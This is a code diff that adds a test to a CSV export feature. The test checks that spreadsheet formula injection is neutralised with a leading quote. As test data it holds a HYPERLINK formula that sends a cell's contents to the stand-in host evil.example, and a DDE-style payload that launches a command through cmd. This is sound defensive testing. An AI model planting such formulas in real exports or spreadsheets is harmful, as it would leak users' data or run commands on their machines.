@@ -221,3 +221,31 @@ async def test_csv_period_defaults_to_utc_days(db):
         rows = parse_csv(await export_csv(session, days=3, now=NOW))
     # From 2026-11-24 00:00 UTC: T1 (11-23 16:00 UTC) falls out.
     assert {r["reference"] for r in rows} == {"RF-T2", "RF-T3", "RF-T4", "RF-T5", "RF-T6", "RF-T7", "RF-T8"}
+
+
+HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Check refund")'
+
+
+async def test_csv_cells_that_could_run_as_formulas_are_neutralised(db):
+    hostile = Story("RF-EVIL", at(25, 9), "needs_review", steps=[
+        ("agent:42", "needs_info", timedelta(hours=1), "@SUM(1+1)*cmd|' /C calc'!A0"),
+        ("payer:7", "needs_review", timedelta(hours=2), "+1 555 0100"),
+        ("agent:42", "approved", timedelta(hours=3), "-2+3"),
+        ("policy:refund", "refund_pending", timedelta(hours=4), "\tTAB"),
+        ("merchant:webhook", "refund_failed", timedelta(hours=5), "\rCR"),
+    ])
+    await tell(db, hostile)
+    async with db.transaction() as session:
+        ticket = await session.get(Ticket, 1)
+        ticket.order_id = HYPERLINK  # a payer-typed order number (parsing refuses this one today)
+        session.add(ticket)
+    async with db.transaction() as session:
+        rows = parse_csv(await export_csv(session, days=3, now=NOW, zone=SHANGHAI))
+    assert {r["order_id"] for r in rows} == {"'" + HYPERLINK}
+    assert [r["note"] for r in rows] == [
+        "filed", "'@SUM(1+1)*cmd|' /C calc'!A0", "'+1 555 0100", "'-2+3", "'\tTAB", "'\rCR",
+    ]
+    # what the bot itself writes stays as it was: numbers stay numbers, times stay times
+    assert {(r["user_id"], r["amount"], r["created_at"]) for r in rows} == {
+        ("7", "99.00", "2026-11-25T09:00:00+00:00")
+    }
